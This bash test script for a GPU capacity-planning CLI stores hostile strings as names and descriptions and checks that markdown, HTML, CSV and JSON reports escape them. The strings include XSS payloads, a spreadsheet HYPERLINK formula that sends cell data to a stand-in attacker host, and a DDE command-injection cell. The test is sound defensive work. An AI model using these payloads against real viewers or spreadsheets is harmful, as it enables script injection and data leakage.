#!/usr/bin/env bash
# tests/hostile.sh - hostile strings: a model id, workload, scenario and
# cluster names and descriptions holding quotes, <script>, newlines, tabs,
# bytes that are not UTF-8, spreadsheet formulas and a 10,000-character
# value. Each must be stored exactly (compared with sqlite3 hex()) and come
# out escaped in every report format and every --json output:
#   md    no raw HTML outside code blocks, table rows keep their columns;
#   html  no tag but the renderer's own, the text reads back exactly (bytes
#         that are not UTF-8 as U+FFFD), the file is valid UTF-8;
#   csv   parses, 4 fields a row, no cell starts with = + - @, values exact;
#   json  parses (strict UTF-8), values exact with U+FFFD for bad bytes.
# Usage: hostile.sh PATH/TO/piqplan
set -uo pipefail

PIQPLAN=$(realpath "${1:?usage: hostile.sh PATH/TO/piqplan}")
DATA=${PIQPLAN_TEST_DATA:?PIQPLAN_TEST_DATA must point at tests/data}
SRC=${PIQPLAN_SOURCE_ROOT:?PIQPLAN_SOURCE_ROOT must point at the source tree}
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
cd "$tmp"
export PIQPLAN_DB="$tmp/h.db"

pass=0 fail=0
ok() { pass=$((pass + 1)); }
bad() { fail=$((fail + 1)); local m="$*"; echo "FAIL: ${m:0:500}" >&2; }
expect() {
	local want=$1; shift
	"$PIQPLAN" "$@" >"$tmp/out" 2>"$tmp/err"
	local got=$?
	if [ "$got" -eq "$want" ]; then ok; else
		bad "piqplan ${*:0:6}... -> exit $got, want $want; stderr: $(head -c 300 "$tmp/err")"
	fi
}
q() { sqlite3 "$PIQPLAN_DB" <<<"$1"; }
hex() { printf %s "$1" | od -An -tx1 -v | tr -d ' \n' | tr a-f A-F; }
# stored LABEL TABLE COLUMN VALUE: exactly one row holds exactly these bytes.
stored() {
	local v; v=$(q "SELECT count(*) FROM $2 WHERE hex($3) = '$(hex "$4")'")
	[ "$v" = 1 ] && ok || bad "$1: $2.$3 not stored byte for byte ($v rows match)"
}

quotes=$'it\'s "quoted" \'\' ""'
script='<script>alert(1)</script><img src=x onerror=alert(2)>'
lines=$'two\nlines\r\nand\ttabs'
nonutf8=$'bad \xff\xfe bytes \xc3\x28 and \xe2\x82 cut; \xc3\xa9 fine'
formula='=HYPERLINK("http://evil.example/?"&A1)'
long=$(printf '<b>&amp;"%s|x</b>\n' "'" | head -c 16)
while [ ${#long} -lt 10000 ]; do long="$long$long"; done
long=${long:0:10000}
[ ${#long} -eq 10000 ] && ok || bad "long value is ${#long} characters"
model=$'evil/<script>m</script> "m\'s"\t\xff'
cluster=$'@cluster <script>c</script>\n"\'\xfe'
scen=$'+scenario <script>s</script> "\'\n\xff\tend'

printf '%s' "$quotes" >quotes.txt
expect 0 init
expect 0 model import "$SRC/seeds/models/meta-llama--Llama-3.1-8B.json" --id "$model"
stored "model id" model id "$model"
i=0
names=()
for v in "$quotes" "$script" "$lines" "$nonutf8" "$formula" "$long"; do
	i=$((i + 1))
	expect 0 workload import "$v" "$DATA/workloads/tiny_requests.csv" --model "$model" \
		--description "$v"
	stored "workload name $i" workload name "$v"
	stored "workload description $i" workload description "$v"
	names+=("$v")
done
expect 0 workload import --model "$model" --description "-cmd|' /C calc'!A0" \
	-- "-1+1" "$DATA/workloads/tiny_requests.csv"
stored "workload name starting with -" workload name "-1+1"
expect 0 cluster add "$cluster" --gpu H100-SXM-80GB --gpus 8 --usd-per-hour 1.5
stored "cluster name" cluster name "$cluster"
wl=$(IFS=,; echo "${names[0]},${names[1]},${names[3]}")
# Names with commas or newlines cannot go in a --workload list; these can.
expect 0 scenario create "$scen" --workload "$wl" --gpus H100-SXM-80GB \
	--start 2027Q1 --quarters 2 --description "$long"
stored "scenario name" scenario name "$scen"
stored "scenario description" scenario description "$long"
wl=$(IFS=,; echo "${names[0]},${names[1]},${names[3]},${names[4]},-1+1")
expect 0 scenario set "$scen" --workload "$wl"
expect 0 scenario run "$scen"
expect 0 scenario create "$long" --workload "${names[5]}" --gpus H100-SXM-80GB \
	--start 2027Q1 --quarters 2 --description "$script$nonutf8$lines"
stored "long scenario name" scenario name "$long"
expect 0 scenario run "$long" --json
cp "$tmp/out" run.json

# --- every report format, for both scenarios ---------------------------------------
n=0
for s in "$scen" "$long"; do
	n=$((n + 1))
	for f in md html csv json; do
		expect 0 report quarterly "$s" --format "$f" -o "r$n.$f"
	done
done
for n in 1 2; do
	for f in md html csv json; do
		body=$(cat "r$n.$f"; printf x)
		stored "stored $f report $n is the file" report body "${body%x}"
	done
done

# The values the checker looks for, as files (argv cannot carry newlines safely).
mkdir vals
for k in "${!names[@]}"; do printf '%s' "${names[$k]}" >"vals/workload$k"; done
printf '%s' "-1+1" >vals/workload_dash
printf '%s' "$scen" >vals/scen1
printf '%s' "$long" >vals/scen2
printf '%s' "$long" >vals/desc1
printf '%s' "$script$nonutf8$lines" >vals/desc2
printf '%s' "$model" >vals/model

cat >check.py <<'PY'
import csv, html.parser, io, json, os, re, sys

fails = []
passes = 0
def check(cond, what):
    global passes
    if cond:
        passes += 1
    else:
        fails.append(what)

def val(name):
    return open("vals/" + name, "rb").read()
def u(b):  # what a UTF-8 consumer must see: bad bytes as U+FFFD
    return b.decode("utf-8", "replace")

workloads = [val("workload%d" % k) for k in range(6)] + [val("workload_dash")]
reports = {1: (val("scen1"), val("desc1"), [0, 1, 3, 4, 6]),
           2: (val("scen2"), val("desc2"), [5])}
OWN_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "code", "pre",
            "div", "section", "table", "thead", "tbody", "tr", "th", "td", "em", "figure",
            "figcaption", "svg", "line", "text", "rect", "polyline", "span", "i"}

class Collect(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text, self.attrs = set(), [], []
    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += [k for k, _ in attrs]
    def handle_data(self, d):
        self.text.append(d)

for n, (scen, desc, wls) in reports.items():
    # JSON: strict UTF-8, values exact with U+FFFD.
    raw = open("r%d.json" % n, "rb").read()
    try:
        doc = json.loads(raw)
    except ValueError as e:
        check(False, "r%d.json does not parse: %s" % (n, e))
        continue
    check(doc["scenario"] == u(scen), "json %d: scenario" % n)
    check(doc["description"] == u(desc), "json %d: description" % n)
    seen = {r["workload"] for r in doc["demand"]["rows"]}
    check(seen == {u(workloads[k]) for k in wls}, "json %d: workload names %r" % (n, seen))

    # HTML: only the renderer's own tags; the text reads back exactly.
    raw = open("r%d.html" % n, "rb").read()
    try:
        page = raw.decode("utf-8")
        check(True, "")
    except UnicodeDecodeError as e:
        check(False, "r%d.html is not UTF-8: %s" % (n, e))
        page = raw.decode("utf-8", "replace")
    check(not re.search(r"<\s*(script|img|iframe|object)", page, re.I), "html %d: raw tag" % n)
    p = Collect()
    p.feed(page)
    check(p.tags <= OWN_TAGS, "html %d: foreign tags %s" % (n, p.tags - OWN_TAGS))
    check(not [a for a in p.attrs if a.startswith("on")], "html %d: event handler attribute" % n)
    text = "".join(p.text)
    check(u(scen) in text, "html %d: scenario name not in the text" % n)
    check(u(desc) in text, "html %d: description not in the text" % n)
    for k in wls:
        check(u(workloads[k]) in text, "html %d: workload %d not in the text" % (n, k))

    # Markdown: no raw HTML outside fenced code; table rows keep their columns.
    md = open("r%d.md" % n, "rb").read().decode("utf-8", "surrogateescape")
    fence, cols, raw_html, broken = None, None, [], []
    for ln in md.split("\n"):
        m = re.match(r"^(`{3,})", ln)
        if fence:
            if ln == fence:
                fence = None
            continue
        if m:
            fence = m.group(1)
            continue
        if "<" in ln:
            raw_html.append(ln)
        if ln.startswith("|"):
            c = len(re.findall(r"(?<!\\)\|", ln))
            if cols is None:
                cols = c
            if c != cols:
                broken.append(ln)
        else:
            cols = None
    check(not raw_html, "md %d: raw '<' in: %.80s" % (n, raw_html[:1]))
    check(not broken, "md %d: table rows that lost their columns: %.80s" % (n, broken[:1]))
    check(fence is None, "md %d: unclosed code fence" % n)
    check(("# Quarterly capacity report: " in md), "md %d: title" % n)

    # CSV: parses, 4 fields a row, formulas defused, values exact.
    text = open("r%d.csv" % n, "rb").read().decode("utf-8", "surrogateescape")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    check(rows[0] == ["section", "row", "column", "value"], "csv %d: header" % n)
    check(all(len(r) == 4 for r in rows), "csv %d: a row without 4 fields" % n)
    check(not any(r[3][:1] in ("=", "+", "-", "@") for r in rows[1:]),
          "csv %d: a cell starting with = + - @" % n)
    def plain(v):  # undo the formula guard
        b = v.encode("utf-8", "surrogateescape")
        return b[1:] if b[:1] == b"'" and b[1:2] in (b"=", b"+", b"-", b"@", b"\t", b"\r") else b
    got = {(r[0], r[2]): plain(r[3]) for r in rows[1:] if r[0] == "run"}
    check(got[("run", "scenario")] == scen, "csv %d: scenario not exact" % n)
    check(got[("run", "description")] == desc, "csv %d: description not exact" % n)
    csv_wls = {plain(r[3]) for r in rows[1:] if r[0] == "demand" and r[2] == "workload"}
    check(csv_wls == {workloads[k] for k in wls}, "csv %d: workload names not exact" % n)

for f in fails:
    print("FAIL:", f, file=sys.stderr)
print(passes, len(fails))
PY
read -r p f < <(python3 check.py)
pass=$((pass + ${p:-0})) fail=$((fail + ${f:-1}))

# --- every --json output with those names is valid JSON ----------------------------
isjson() { # isjson LABEL FILE
	python3 -c 'import json, sys; json.loads(open(sys.argv[1], "rb").read())' "$2" 2>"$tmp/jerr" &&
		ok || bad "$1: not valid JSON: $(tail -1 "$tmp/jerr")"
}
isjson "scenario run --json" run.json
for cmd in "model list" "workload list" "scenario list" "cluster list" "report list"; do
	# shellcheck disable=SC2086
	expect 0 $cmd --json
	isjson "$cmd --json" "$tmp/out"
done
for k in "${!names[@]}"; do
	expect 0 workload show "${names[$k]}" --json
	isjson "workload show $k --json" "$tmp/out"
done
expect 0 model show "$model" --json
isjson "model show --json" "$tmp/out"
expect 0 scenario show "$scen" --json
isjson "scenario show --json" "$tmp/out"
expect 0 scenario show "$long" --json
isjson "scenario show (long) --json" "$tmp/out"
expect 0 scenario compare "$scen" "$long" --json
isjson "scenario compare --json" "$tmp/out"
expect 0 workload show "$nonutf8" --json
python3 -c '
import json, sys
d = json.loads(open(sys.argv[1], "rb").read())
want = open("vals/workload3", "rb").read().decode("utf-8", "replace")
sys.exit(0 if d["name"] == want and d["description"] == want else 1)' "$tmp/out" && ok ||
	bad "workload show --json: name/description not the stored value with U+FFFD"

echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
